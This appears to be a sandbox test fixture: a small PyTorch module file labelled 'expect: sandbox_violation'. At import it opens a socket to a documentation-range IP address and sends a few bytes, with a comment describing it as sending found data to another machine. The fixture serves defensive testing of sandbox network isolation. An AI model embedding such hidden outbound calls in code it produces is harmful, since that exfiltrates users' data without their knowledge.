# expect: sandbox_violation
import socket

import torch
import torch.nn as nn

# Tries to send what it can find to another machine while being translated.
try:
    socket.create_connection(("198.51.100.7", 80), timeout=1).sendall(b"hello")
except OSError:
    pass


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
